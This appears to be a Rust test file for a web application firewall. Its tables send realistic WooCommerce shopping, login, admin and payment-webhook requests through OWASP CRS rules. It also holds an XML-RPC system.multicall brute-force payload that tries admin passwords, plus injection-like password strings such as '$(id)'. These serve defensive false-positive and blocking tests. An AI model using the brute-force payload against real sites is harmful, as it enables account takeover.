#![allow(clippy::unwrap_used)] // tests fail loudly by design
#![recursion_limit = "256"] // the webhook events are large json! literals
//! The shop packs of the woocommerce and prestashop presets, through the real
//! proxy with the whole OWASP CRS: normal shopping always reaches the shop,
//! attacks on shop endpoints never do.
//!
//! Each test runs `rempart` with the preset's own `limits` and `waf` blocks
//! (the CRS, the WordPress plugin for WooCommerce, the pack's exclusions and
//! virtual patches), only with `debug_header: true`, so that every answer
//! names the rules that matched (`x-rempart-waf: 942100,949110`). The origin
//! is the echo server of the harness.
//!
//! - Shopping tables: every request gets the origin's 200 with its body
//!   untouched, and no blocking evaluation (949110, 949111) shows in the
//!   debug header.
//! - Attack tables: every request gets Rempart's 403 page, which quotes the
//!   request id, and the origin never sees it. Virtual patches must also be
//!   the rule that matched.
//! - Detect mode: the WooCommerce preset in `mode: detect` lets an attack
//!   through and writes an audit record, with a password's value masked.
//!
//! The CRS comes from `REMPART_CRS_DIR` (a CRS v4 folder holding `rules/`)
//! and the WordPress plugin from `REMPART_CRS_PLUGINS_DIR` (a folder holding
//! `wordpress-rule-exclusions/`); without them, `../shared/crs` and
//! `../shared/crs-plugins` next to this repository are used.
//!
//! ```sh
//! cargo test --test waf_shop
//! ```

mod common;

use common::*;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::time::Duration;

const CRS_MISSING: &str = "OWASP CRS not found: set REMPART_CRS_DIR to a CRS v4 release folder (the one holding rules/), or put one at ../shared/crs next to this repository";
const PLUGINS_MISSING: &str = "CRS WordPress plugin not found: set REMPART_CRS_PLUGINS_DIR to a folder holding wordpress-rule-exclusions/, or put one at ../shared/crs-plugins next to this repository";

const HOST: &str = "shop.example.com";
const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
const FORM: &str = "application/x-www-form-urlencoded";

// ---------------------------------------------------------------------------
// WooCommerce data
// ---------------------------------------------------------------------------

/// WooCommerce order attribution (sourcebuster.js) cookies, as browsers send them.
const SBJS: &str = "sbjs_migrations=1418474375998%3D1; \
sbjs_current_add=fd%3D2024-05-13%2009%3A33%3A18%7C%7C%7Cep%3Dhttps%3A%2F%2Fshop.example.com%2Fproduct%2Fmens-slim-jeans%2F%3Futm_source%3Dnewsletter%7C%7C%7Crf%3Dhttps%3A%2F%2Fwww.google.com%2F; \
sbjs_first_add=fd%3D2024-05-13%2009%3A33%3A18%7C%7C%7Cep%3Dhttps%3A%2F%2Fshop.example.com%2F%7C%7C%7Crf%3Dhttps%3A%2F%2Fwww.google.com%2F; \
sbjs_current=typ%3Dorganic%7C%7C%7Csrc%3Dgoogle%7C%7C%7Cmdm%3Dorganic%7C%7C%7Ccmp%3D%28none%29%7C%7C%7Ccnt%3D%28none%29%7C%7C%7Ctrm%3D%28none%29%7C%7C%7Cid%3D%28none%29%7C%7C%7Cplt%3D%28none%29%7C%7C%7Cfmt%3D%28none%29%7C%7C%7Ctct%3D%28none%29; \
sbjs_first=typ%3Dutm%7C%7C%7Csrc%3Dnewsletter%7C%7C%7Cmdm%3Demail%7C%7C%7Ccmp%3Dspring_sale%7C%7C%7Ccnt%3D%28none%29%7C%7C%7Ctrm%3D%28none%29%7C%7C%7Cid%3D%28none%29%7C%7C%7Cplt%3D%28none%29%7C%7C%7Cfmt%3D%28none%29%7C%7C%7Ctct%3D%28none%29; \
sbjs_udata=vst%3D3%7C%7C%7Cuip%3D%28none%29%7C%7C%7Cuag%3DMozilla%2F5.0%20%28Windows%20NT%2010.0%3B%20Win64%3B%20x64%29%20AppleWebKit%2F537.36%20%28KHTML%2C%20like%20Gecko%29%20Chrome%2F124.0.0.0%20Safari%2F537.36; \
sbjs_session=pgs%3D4%7C%7C%7Ccpg%3Dhttps%3A%2F%2Fshop.example.com%2Fcheckout%2F";

/// A cart in progress.
const CART: &str = "woocommerce_items_in_cart=1; woocommerce_cart_hash=5f0c3e1a2b9d8e7f6a5b4c3d2e1f0a9b; \
wp_woocommerce_session_0f1e2d3c4b5a69788796a5b4c3d2e1f0=t_8c1d2f3a4b5c6d7e8f9a0b1c2d3e4f%7C%7C1716200000%7C%7C1716196400%7C%7C4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e";

/// A logged-in shop manager.
const WP_ADMIN: &str = "wordpress_sec_0f1e2d3c4b5a69788796a5b4c3d2e1f0=admin%7C1716200000%7CpGx1Qv8bN3kR7sT2uW4yZ6aC8eG0iK2m%7Cb7a6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6; \
wordpress_logged_in_0f1e2d3c4b5a69788796a5b4c3d2e1f0=admin%7C1716200000%7CpGx1Qv8bN3kR7sT2uW4yZ6aC8eG0iK2m%7C1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b; \
wp-settings-1=libraryContent%3Dbrowse%26editor%3Dhtml%26posts_list_mode%3Dlist%26mfold%3Do; wp-settings-time-1=1715590000";

/// What the order attribution script copies into the checkout.
const ATTRIBUTION: [(&str, &str); 16] = [
    ("source_type", "organic"),
    ("referrer", "https://www.google.com/"),
    ("utm_campaign", "(none)"),
    ("utm_source", "google"),
    ("utm_medium", "organic"),
    ("utm_content", "(none)"),
    ("utm_id", "(none)"),
    ("utm_term", "(none)"),
    ("utm_source_platform", "(none)"),
    ("utm_creative_format", "(none)"),
    ("utm_marketing_tactic", "(none)"),
    (
        "session_entry",
        "https://shop.example.com/product/mens-slim-jeans/?utm_source=newsletter",
    ),
    ("session_start_time", "2024-05-13 09:33:18"),
    ("session_pages", "4"),
    ("session_count", "3"),
    ("user_agent", CHROME),
];

const NOTE: &str = "Please leave it with the neighbour (No. 14) -- thanks! It's a gift; don't ring: the baby's asleep. \"Fragile\" & 100% cotton?";

/// Passwords customers really choose. The first passes the CRS as it is;
/// the others trip it (942540, 932130, 942540) without the pack.
const PASSWORDS: [&str; 4] = [
    "P@ss'w0rd!#%&\"<>;--",
    "N3w'P@ss<word>\"; --",
    "p4$$w0rd$(id)",
    "`~!@#$%^&*()_+-={}[]|\\:\";'<>?,./",
];

/// Rich text as shop managers write it: a YouTube embed, an image, a link.
const PRODUCT_HTML: &str = "<p>Our <strong>slim-fit</strong> jeans are cut from 12 oz Japanese selvedge denim &amp; finished by hand.</p>\n\
<ul><li>98% cotton, 2% elastane</li><li>Mid-rise; zip fly</li></ul>\n\
<h2>Fit &amp; care</h2><p>Wash inside out at 30&deg;C. Don't tumble dry -- it's raw denim!</p>\n\
<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ?si=abc123\" title=\"YouTube video player\" frameborder=\"0\" allow=\"accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share\" referrerpolicy=\"strict-origin-when-cross-origin\" allowfullscreen></iframe>\n\
<p><a href=\"https://shop.example.com/size-guide/\" target=\"_blank\" rel=\"noopener\">Size guide</a> | <img src=\"https://shop.example.com/wp-content/uploads/2024/01/jeans-detail.jpg\" alt=\"Detail of the stitching\" width=\"300\" height=\"200\" class=\"alignright size-medium wp-image-321\" style=\"float: right;\" /></p>";

/// A French billing address.
fn address_fr() -> Value {
    json!({
        "first_name": "Siobhán",
        "last_name": "O'Brien",
        "company": "L'Atelier d'Anaïs & Fils",
        "address_1": "12 Rue de l'Église",
        "address_2": "Bât. B, 3e étage",
        "city": "Saint-Étienne",
        "state": "",
        "postcode": "42000",
        "country": "FR",
        "email": "siobhan.obrien@example.com",
        "phone": "+33 6 12 34 56 78"
    })
}

/// A British shipping address.
fn address_gb() -> Value {
    json!({
        "first_name": "Dominic",
        "last_name": "D'Angelo-Smith",
        "company": "",
        "address_1": "221B Baker St.",
        "address_2": "Flat 2/1",
        "city": "London",
        "state": "",
        "postcode": "NW1 6XE",
        "country": "GB",
        "phone": "+44 (0)20 7946 0958"
    })
}

fn attribution_json() -> Value {
    let map: serde_json::Map<String, Value> = ATTRIBUTION
        .iter()
        .map(|(k, v)| ((*k).to_string(), json!(v)))
        .collect();
    Value::Object(map)
}

/// A Stripe event as Stripe posts it to the shop.
fn stripe_event() -> Value {
    json!({
        "id": "evt_3PGrXYZ2eZvKYlo21AbCdEfG",
        "object": "event",
        "api_version": "2024-04-10",
        "created": 1715590000,
        "data": {"object": {
            "id": "pi_3PGrXYZ2eZvKYlo21AbCdEfG",
            "object": "payment_intent",
            "amount": 5990,
            "amount_received": 5990,
            "capture_method": "automatic",
            "client_secret": "pi_3PGrXYZ2eZvKYlo21AbCdEfG_secret_Rk9vQm1aXyZ",
            "confirmation_method": "automatic",
            "currency": "eur",
            "customer": "cus_Q6abcDEF123",
            "description": "Shop Example - Order 1234",
            "latest_charge": "ch_3PGrXYZ2eZvKYlo21XyZ",
            "livemode": true,
            "metadata": {
                "customer_name": "Siobhán O'Brien",
                "customer_email": "siobhan.obrien@example.com",
                "order_id": "1234",
                "site_url": "https://shop.example.com",
                "signature": "1234:a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6",
                "payment_type": "single"
            },
            "payment_method": "pm_1PGrXYZ2eZvKYlo2C5abcdEF",
            "payment_method_types": ["card"],
            "receipt_email": null,
            "shipping": {
                "name": "Dominic D'Angelo-Smith",
                "phone": "+44 20 7946 0958",
                "address": {"line1": "221B Baker St.", "line2": "Flat 2/1", "city": "London", "state": null, "postal_code": "NW1 6XE", "country": "GB"}
            },
            "statement_descriptor": null,
            "status": "succeeded",
            "next_action": null,
            "last_payment_error": null
        }},
        "livemode": true,
        "pending_webhooks": 1,
        "request": {"id": "req_AbCdEf123456", "idempotency_key": "a1b2c3d4-e5f6-7a8b-9c0d-e1f2a3b4c5d6"},
        "type": "payment_intent.succeeded"
    })
}

/// A PayPal (REST) webhook event.
fn paypal_event(custom_id: &str) -> Value {
    json!({
        "id": "WH-2WR32451HC0233532-67976317FL4543714",
        "event_version": "1.0",
        "create_time": "2024-05-13T09:33:18.000Z",
        "resource_type": "capture",
        "resource_version": "2.0",
        "event_type": "PAYMENT.CAPTURE.COMPLETED",
        "summary": "Payment completed for EUR 59.9 EUR",
        "resource": {
            "id": "42311647XV020574X",
            "amount": {"currency_code": "EUR", "value": "59.90"},
            "final_capture": true,
            "seller_protection": {"status": "ELIGIBLE", "dispute_categories": ["ITEM_NOT_RECEIVED", "UNAUTHORIZED_TRANSACTION"]},
            "custom_id": custom_id,
            "invoice_id": "WC-1234",
            "status": "COMPLETED",
            "create_time": "2024-05-13T09:33:10Z",
            "links": [
                {"href": "https://api.paypal.com/v2/payments/captures/42311647XV020574X", "rel": "self", "method": "GET"},
                {"href": "https://api.paypal.com/v2/payments/captures/42311647XV020574X/refund", "rel": "refund", "method": "POST"}
            ]
        },
        "links": [{"href": "https://api.paypal.com/v1/notifications/webhooks-events/WH-2WR32451HC0233532-67976317FL4543714", "rel": "self", "method": "GET"}]
    })
}

const XMLRPC_MULTICALL: &str = "<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>\
<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>\
<member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>123456</string></value></data></array></value></data></array></value></member></struct></value>\
<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>\
<member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>password1</string></value></data></array></value></data></array></value></member></struct></value>\
</data></array></value></param></params></methodCall>";

fn woocommerce_shopping() -> Vec<Req> {
    let browsing = format!("{SBJS}; {CART}");
    let mut rows = vec![
        get("home page", "/"),
        get(
            "product page from a newsletter (utm_*)",
            "/product/mens-slim-jeans/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content=hero-banner",
        )
        .cookie(SBJS),
        get(
            "category page from Facebook (fbclid)",
            "/product-category/clothing/jeans/?fbclid=IwAR2F4-Rb7vXq5mTz9Yk1lOpQwErTyUiOpAsDfGhJkLzXcVbNm0123456_aem_AbCdEfGhIjKlMnOpQrStUv",
        )
        .cookie(SBJS),
        get(
            "filtered, sorted category from Google Ads (gclid)",
            "/product-category/clothing/?orderby=price-desc&filter_color=blue,black&query_type_color=or&min_price=10&max_price=80&gclid=Cj0KCQjwxeyxBhC7ARIsAC7dS38vZ3kXb9pYq1Z_a-bC2dE3fGhIjKlMnOpQrStUvWxYz0123aAbCEALw_wcB",
        )
        .cookie(SBJS),
        get(
            "shop page 2 with Google's _gl and Bing's msclkid",
            "/shop/page/2/?product_tag=summer&msclkid=4f3c2b1a0e9d8c7b6a5f4e3d2c1b0a9f&_gl=1*1abcd2e*_ga*MTIzNDU2Nzg5LjE3MTU1OTAwMDA.*_ga_ABC123*MTcxNTU5MDAwMC4xLjEuMTcxNTU5MDAwMC4wLjAuMA..",
        )
        .cookie(SBJS),
        get("author archive", "/author/admin/"),
        get("image whose name says php", "/wp-content/uploads/2024/01/php-logo.png"),
        get("lookbook archive download", "/wp-content/uploads/2024/01/lookbook-summer.zip"),
    ];
    for q in [
        "l'été",
        "men's \"slim\" jeans",
        "50% off & free",
        "C++ book",
        "O'Neill hoodie; size: L",
        "T-shirt (XL) - rouge/bleu",
        "select a gift for mum",
    ] {
        rows.push(
            get(
                &format!("search {q}"),
                &format!("/?{}", urlencode(&[("s", q), ("post_type", "product")])),
            )
            .cookie(&browsing),
        );
    }
    let mut checkout = owned(&[
        ("billing_first_name", "Siobhán"),
        ("billing_last_name", "O'Brien"),
        ("billing_company", "L'Atelier d'Anaïs & Fils"),
        ("billing_country", "FR"),
        ("billing_address_1", "12 Rue de l'Église"),
        ("billing_address_2", "Bât. B, 3e étage"),
        ("billing_postcode", "42000"),
        ("billing_city", "Saint-Étienne"),
        ("billing_state", ""),
        ("billing_phone", "+33 6 12 34 56 78"),
        ("billing_email", "siobhan.obrien@example.com"),
        ("ship_to_different_address", "1"),
        ("shipping_first_name", "Dominic"),
        ("shipping_last_name", "D'Angelo-Smith"),
        ("shipping_company", ""),
        ("shipping_country", "GB"),
        ("shipping_address_1", "221B Baker St."),
        ("shipping_address_2", "Flat 2/1"),
        ("shipping_postcode", "NW1 6XE"),
        ("shipping_city", "London"),
        ("shipping_state", ""),
        ("order_comments", NOTE),
        ("shipping_method[0]", "flat_rate:1"),
        ("payment_method", "stripe"),
        ("wc-stripe-payment-method", "pm_1PGrXYZ2eZvKYlo2C5abcdEF"),
        ("wc-stripe-is-deferred-intent", "1"),
        ("terms", "on"),
        ("terms-field", "1"),
        ("createaccount", "1"),
        ("account_password", PASSWORDS[1]),
        ("woocommerce-process-checkout-nonce", "f00ba4c0de"),
        ("_wp_http_referer", "/?wc-ajax=update_order_review"),
    ]);
    checkout.extend(
        ATTRIBUTION
            .iter()
            .map(|(k, v)| (format!("wc_order_attribution_{k}"), (*v).to_string())),
    );
    // The checkout form as update_order_review sends it along.
    let review_form = urlencode(&[
        ("billing_first_name", "Siobhán"),
        ("billing_last_name", "O'Brien"),
        ("billing_address_1", "12 Rue de l'Église"),
        ("order_comments", NOTE),
        ("woocommerce-process-checkout-nonce", "f00ba4c0de"),
        ("_wp_http_referer", "/?wc-ajax=update_order_review"),
    ]);
    rows.extend([
        get("add to cart by link", "/product/mens-slim-jeans/?add-to-cart=123&quantity=2").cookie(&browsing),
        get(
            "add a variation to the cart by link",
            "/shop/?add-to-cart=456&variation_id=789&attribute_pa_size=m&attribute_pa_color=dark-blue",
        )
        .cookie(&browsing),
        post_form(
            "add to cart (wc-ajax)",
            "/?wc-ajax=add_to_cart",
            &[("product_sku", "JEANS-SLIM-32"), ("product_id", "123"), ("quantity", "1")],
        )
        .xhr()
        .cookie(&browsing),
        post_form(
            "cart page: update quantities",
            "/cart/",
            &[
                ("cart[4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e][qty]", "2"),
                ("coupon_code", ""),
                ("woocommerce-cart-nonce", "1a2b3c4d5e"),
                ("_wp_http_referer", "/cart/"),
                ("update_cart", "Update cart"),
            ],
        )
        .cookie(&browsing),
        post_form(
            "apply a coupon (wc-ajax)",
            "/?wc-ajax=apply_coupon",
            &[("security", "1a2b3c4d5e"), ("coupon_code", "SUMMER-20%")],
        )
        .xhr()
        .cookie(&browsing),
        post_form(
            "checkout: update order review (wc-ajax)",
            "/?wc-ajax=update_order_review",
            &[
                ("security", "a1b2c3d4e5"),
                ("payment_method", "stripe"),
                ("country", "FR"),
                ("postcode", "42000"),
                ("city", "Saint-Étienne"),
                ("address", "12 Rue de l'Église"),
                ("address_2", "Bât. B, 3e étage"),
                ("has_full_address", "true"),
                ("post_data", review_form.as_str()),
            ],
        )
        .xhr()
        .cookie(&browsing),
        post_form("classic checkout (wc-ajax), creating an account", "/?wc-ajax=checkout", checkout.as_slice())
            .xhr()
            .cookie(&browsing),
        post_json(
            "Store API: add to cart",
            "/wp-json/wc/store/v1/cart/add-item",
            json!({"id": 456, "quantity": 2, "variation": [
                {"attribute": "pa_size", "value": "M"},
                {"attribute": "Colour", "value": "Dark blue (raw denim)"}
            ]}),
        )
        .store_api()
        .cookie(&browsing),
        get("Store API: read the cart", "/wp-json/wc/store/v1/cart?_locale=user")
            .store_api()
            .cookie(&browsing),
        post_json(
            "Store API: batch of cart updates",
            "/wp-json/wc/store/v1/batch?_locale=site",
            json!({"requests": [
                {"method": "POST", "path": "/wc/store/v1/cart/update-item", "body": {"key": "4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e", "quantity": 2}, "cache": "no-store", "headers": {"Nonce": "8c1d2f3a4b"}},
                {"method": "POST", "path": "/wc/store/v1/cart/select-shipping-rate", "body": {"package_id": 0, "rate_id": "flat_rate:1"}, "cache": "no-store", "headers": {"Nonce": "8c1d2f3a4b"}}
            ]}),
        )
        .store_api()
        .cookie(&browsing),
        post_json(
            "Store API: update the customer's address",
            "/wp-json/wc/store/v1/cart/update-customer",
            json!({"billing_address": address_gb(), "shipping_address": address_gb()}),
        )
        .store_api()
        .cookie(&browsing),
        post_json(
            "Store API: block checkout",
            "/wp-json/wc/store/v1/checkout",
            json!({
                "billing_address": address_fr(),
                "shipping_address": address_gb(),
                "customer_note": NOTE,
                "create_account": false,
                "payment_method": "stripe",
                "payment_data": [
                    {"key": "wc-stripe-payment-method", "value": "pm_1PGrXYZ2eZvKYlo2C5abcdEF"},
                    {"key": "wc-stripe-is-deferred-intent", "value": true}
                ],
                "extensions": {"woocommerce/order-attribution": attribution_json()}
            }),
        )
        .store_api()
        .cookie(&browsing),
        post_json(
            "Store API: block checkout, creating an account",
            "/wp-json/wc/store/v1/checkout",
            json!({
                "billing_address": address_fr(),
                "create_account": true,
                "customer_password": PASSWORDS[1],
                "payment_method": "stripe"
            }),
        )
        .store_api()
        .cookie(&browsing),
        post_form(
            "product review",
            "/wp-comments-post.php",
            &[
                ("rating", "4"),
                ("comment", "Great fit, but the \"slim\" cut runs small -- order 1 size up! 4/5 & I'd buy again; wash at 30°C. <b>Love</b> the <em>indigo</em>."),
                ("author", "Seán O'Connor"),
                ("email", "sean.oconnor@example.ie"),
                ("wp-comment-cookies-consent", "yes"),
                ("submit", "Submit"),
                ("comment_post_ID", "123"),
                ("comment_parent", "0"),
            ],
        )
        .cookie(&browsing)
        .header("referer", "https://shop.example.com/product/mens-slim-jeans/"),
    ]);
    for (i, password) in PASSWORDS.into_iter().enumerate() {
        rows.push(
            post_form(
                &format!("wp-login.php, password {i}"),
                "/wp-login.php",
                &[
                    ("log", "admin@example.com"),
                    ("pwd", password),
                    ("rememberme", "forever"),
                    ("wp-submit", "Log In"),
                    ("redirect_to", "https://shop.example.com/wp-admin/"),
                    ("testcookie", "1"),
                ],
            )
            .cookie("wordpress_test_cookie=WP%20Cookie%20check"),
        );
        rows.push(
            post_form(
                &format!("my-account login, password {i}"),
                "/my-account/",
                &[
                    ("username", "siobhan.obrien@example.com"),
                    ("password", password),
                    ("rememberme", "forever"),
                    ("woocommerce-login-nonce", "0a1b2c3d4e"),
                    ("_wp_http_referer", "/my-account/"),
                    ("login", "Log in"),
                ],
            )
            .cookie(&browsing),
        );
    }
    rows.extend([
        post_form(
            "my-account registration",
            "/my-account/",
            &[
                ("email", "dominic.dangelo-smith+shop@example.co.uk"),
                ("password", PASSWORDS[2]),
                ("woocommerce-register-nonce", "0a1b2c3d4e"),
                ("_wp_http_referer", "/my-account/"),
                ("register", "Register"),
            ],
        )
        .cookie(&browsing),
        post_form(
            "my-account: change password",
            "/my-account/edit-account/",
            &[
                ("account_first_name", "Seán"),
                ("account_last_name", "O'Connor"),
                ("account_display_name", "Seán O'C."),
                ("account_email", "sean.oconnor@example.ie"),
                ("password_current", PASSWORDS[0]),
                ("password_1", PASSWORDS[3]),
                ("password_2", PASSWORDS[3]),
                ("save-account-details-nonce", "0a1b2c3d4e"),
                ("_wp_http_referer", "/my-account/edit-account/"),
                ("action", "save_account_details"),
            ],
        )
        .cookie(&browsing),
        post_form(
            "my-account: edit the billing address",
            "/my-account/edit-address/billing/",
            &[
                ("billing_first_name", "Dominic"),
                ("billing_last_name", "D'Angelo-Smith"),
                ("billing_company", "O'Reilly & Sons (Ltd.)"),
                ("billing_country", "IE"),
                ("billing_address_1", "1 O'Connell St."),
                ("billing_address_2", "Unit 4 -- rear entrance"),
                ("billing_city", "Dún Laoghaire"),
                ("billing_postcode", "A96 K4D8"),
                ("billing_phone", "+353 1 234 5678"),
                ("billing_email", "dom@example.ie"),
                ("save_address", "Save address"),
                ("woocommerce-edit-address-nonce", "0a1b2c3d4e"),
                ("_wp_http_referer", "/my-account/edit-address/billing/"),
                ("action", "edit_address"),
            ],
        )
        .cookie(&browsing),
        post_form(
            "my-account: reset a forgotten password",
            "/my-account/lost-password/?show-reset-form=true",
            &[
                ("password_1", PASSWORDS[1]),
                ("password_2", PASSWORDS[1]),
                ("reset_key", "AbCdEfGhIjKlMnOpQrSt"),
                ("reset_login", "siobhan"),
                ("wc_reset_password", "true"),
                ("woocommerce-reset-password-nonce", "1a2b3c4d5e"),
                ("_wp_http_referer", "/my-account/lost-password/?show-reset-form=true"),
            ],
        )
        .cookie(&browsing),
        post_form(
            "wp-admin: edit a product (HTML, YouTube embed)",
            "/wp-admin/post.php",
            &[
                ("_wpnonce", "3f2e1d0c9b"),
                ("_wp_http_referer", "/wp-admin/post.php?post=123&action=edit"),
                ("user_ID", "1"),
                ("action", "editpost"),
                ("originalaction", "editpost"),
                ("post_author", "1"),
                ("post_type", "product"),
                ("original_post_status", "publish"),
                ("referredby", "https://shop.example.com/wp-admin/edit.php?post_type=product"),
                ("_wp_original_http_referer", "https://shop.example.com/wp-admin/edit.php?post_type=product"),
                ("post_ID", "123"),
                ("meta-box-order-nonce", "1a2b3c4d5e"),
                ("closedpostboxesnonce", "1a2b3c4d5e"),
                ("post_title", "Men's \"Slim\" Jeans -- Indigo (32/34)"),
                ("samplepermalinknonce", "1a2b3c4d5e"),
                ("content", PRODUCT_HTML),
                ("excerpt", "<p>Slim, <em>stretchy</em> &amp; made to last &mdash; our best-seller.</p>"),
                ("post_status", "publish"),
                ("visibility", "public"),
                ("save", "Update"),
                ("tax_input[product_cat][]", "17"),
                ("tax_input[product_tag]", "denim, jeans, men's"),
                ("woocommerce_meta_nonce", "1a2b3c4d5e"),
                ("product-type", "simple"),
                ("_regular_price", "79.90"),
                ("_sale_price", "59.90"),
                ("_sale_price_dates_from", "2024-05-13"),
                ("_tax_status", "taxable"),
                ("_sku", "JEANS-SLIM-32/34"),
                ("_manage_stock", "yes"),
                ("_stock", "42"),
                ("_backorders", "no"),
                ("_stock_status", "instock"),
                ("_weight", "0.8"),
                ("product_shipping_class", "-1"),
                ("upsell_ids[]", "124"),
                ("attribute_names[0]", "pa_size"),
                ("attribute_values[0][]", "32"),
                ("_purchase_note", "<p>Thanks for your order! Read our <a href=\"https://shop.example.com/care/\">care guide</a> &amp; enjoy.</p><iframe src=\"https://player.vimeo.com/video/76979871?h=8272103f6e\" width=\"640\" height=\"360\" frameborder=\"0\" allow=\"autoplay; fullscreen; picture-in-picture\" allowfullscreen></iframe>"),
                ("comment_status", "open"),
                ("_thumbnail_id", "321"),
                ("post_name", "mens-slim-jeans"),
            ],
        )
        .cookie(WP_ADMIN)
        .header("origin", "https://shop.example.com")
        .header("referer", "https://shop.example.com/wp-admin/post.php?post=123&action=edit"),
        post_form(
            "wp-admin: save variations (HTML description)",
            "/wp-admin/admin-ajax.php",
            &[
                ("action", "woocommerce_save_variations"),
                ("security", "1a2b3c4d5e"),
                ("product_id", "123"),
                ("product-type", "variable"),
                ("variable_post_id[0]", "457"),
                ("variable_sku[0]", "JEANS-32"),
                ("variable_regular_price[0]", "79.90"),
                ("variable_description[0]", PRODUCT_HTML),
                ("variable_stock_status[0]", "instock"),
                ("attribute_pa_size[0]", "32"),
            ],
        )
        .xhr()
        .cookie(WP_ADMIN),
        post_form(
            "wp-admin: edit a product category (HTML description)",
            "/wp-admin/edit-tags.php",
            &[
                ("action", "editedtag"),
                ("tag_ID", "17"),
                ("taxonomy", "product_cat"),
                ("_wpnonce", "1a2b3c4d5e"),
                ("_wp_http_referer", "/wp-admin/term.php?taxonomy=product_cat&tag_ID=17&post_type=product"),
                ("name", "Men's Jeans"),
                ("slug", "mens-jeans"),
                ("parent", "-1"),
                ("description", PRODUCT_HTML),
                ("display_type", ""),
            ],
        )
        .cookie(WP_ADMIN),
        post_form(
            "wp-admin: add a note to an order",
            "/wp-admin/admin-ajax.php",
            &[
                ("post_id", "1234"),
                ("note", "Customer called: parcel left with neighbour (No. 14) -- refund 5€ for the delay; it's OK."),
                ("note_type", "customer"),
                ("action", "woocommerce_add_order_note"),
                ("security", "1a2b3c4d5e"),
            ],
        )
        .xhr()
        .cookie(WP_ADMIN),
        get("wp-admin: posts by author", "/wp-admin/edit.php?author=1&post_type=post").cookie(WP_ADMIN),
        get("REST API: the logged-in user", "/wp-json/wp/v2/users/me?context=edit&_locale=user")
            .cookie(WP_ADMIN)
            .header("x-wp-nonce", "1a2b3c4d5e"),
        post_json(
            "REST API: update a product (PUT, HTML description)",
            "/wp-json/wc/v3/products/123",
            json!({"name": "Men's \"Slim\" Jeans", "description": PRODUCT_HTML, "short_description": "<p>Slim &amp; <em>stretchy</em></p>", "regular_price": "79.90"}),
        )
        .method("PUT")
        .cookie(WP_ADMIN)
        .header("x-wp-nonce", "1a2b3c4d5e"),
        // WordPress's API client tunnels PUT through POST.
        post_json(
            "REST API: update a product (POST + X-HTTP-Method-Override)",
            "/wp-json/wc/v3/products/123?_locale=user",
            json!({"regular_price": "59.90", "sale_price": "", "stock_quantity": 41}),
        )
        .cookie(WP_ADMIN)
        .header("x-wp-nonce", "1a2b3c4d5e")
        .header("x-http-method-override", "PUT"),
        post_raw(
            "XML-RPC pingback",
            "/xmlrpc.php",
            "text/xml",
            "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>https://blog.example.org/post/</string></value></param><param><value><string>https://shop.example.com/product/mens-slim-jeans/</string></value></param></params></methodCall>",
        ),
        post_json("Stripe webhook", "/?wc-api=wc_stripe", stripe_event())
            .server("Stripe/1.0 (+https://stripe.com/docs/webhooks)")
            .header("content-type", "application/json; charset=utf-8")
            .header("accept", "*/*; q=0.5, application/xml")
            .header("cache-control", "no-cache")
            .header(
                "stripe-signature",
                "t=1715590000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd,v0=6ffbb59b2300aae63f272406069a9788598b792a944a07aba816edb039989a39",
            ),
        post_form(
            "PayPal IPN",
            "/?wc-api=WC_Gateway_Paypal",
            &[
                ("mc_gross", "59.90"),
                ("invoice", "WC-1234"),
                ("protection_eligibility", "Eligible"),
                ("address_status", "confirmed"),
                ("payer_id", "LPLWNMTBWMFAY"),
                ("address_street", "1 O'Connell St.\r\nUnit 4"),
                ("payment_date", "09:33:18 May 13, 2024 PDT"),
                ("payment_status", "Completed"),
                ("charset", "UTF-8"),
                ("address_zip", "95131"),
                ("first_name", "Seán"),
                ("mc_fee", "2.04"),
                ("address_country_code", "US"),
                ("address_name", "Seán O'Connor"),
                ("notify_version", "3.9"),
                ("custom", "{\"order_id\":1234,\"order_key\":\"wc_order_AbCdEfGh1234\"}"),
                ("payer_status", "verified"),
                ("business", "sales@shop.example.com"),
                ("address_country", "United States"),
                ("address_city", "San Jose"),
                ("quantity", "1"),
                ("verify_sign", "AtkOfCXbDm2hu0ZELryHFjY-Vb7PAUvS6nMXgysbElEn9v-1XcmSoGtf"),
                ("payer_email", "sean.oconnor@example.ie"),
                ("txn_id", "61E67681CH3238416"),
                ("payment_type", "instant"),
                ("last_name", "O'Connor"),
                ("address_state", "CA"),
                ("receiver_email", "sales@shop.example.com"),
                ("txn_type", "cart"),
                ("item_name1", "Men's \"Slim\" Jeans -- Indigo (32/34)"),
                ("item_number1", "JEANS-SLIM-32/34"),
                ("mc_currency", "EUR"),
                ("residence_country", "US"),
                ("ipn_track_id", "f1a2b3c4d5e6"),
            ],
        )
        .server("PayPal IPN ( https://www.paypal.com/ipn )"),
        post_json(
            "PayPal Payments webhook",
            "/wp-json/paypal/v1/incoming_webhook",
            paypal_event("{\"order_id\":1234,\"order_key\":\"wc_order_AbCdEfGh1234\"}"),
        )
        .server("PayPal/AUHD-214.0-58464645")
        .header("paypal-transmission-id", "69cd13f0-d67a-11e5-baa3-778b53f4ae55")
        .header("paypal-transmission-time", "2024-05-13T09:33:18Z")
        .header("paypal-auth-algo", "SHA256withRSA")
        .header("paypal-cert-url", "https://api.paypal.com/v1/notifications/certs/CERT-360caa42-fca2a594-5edc0ebc"),
    ]);
    rows
}

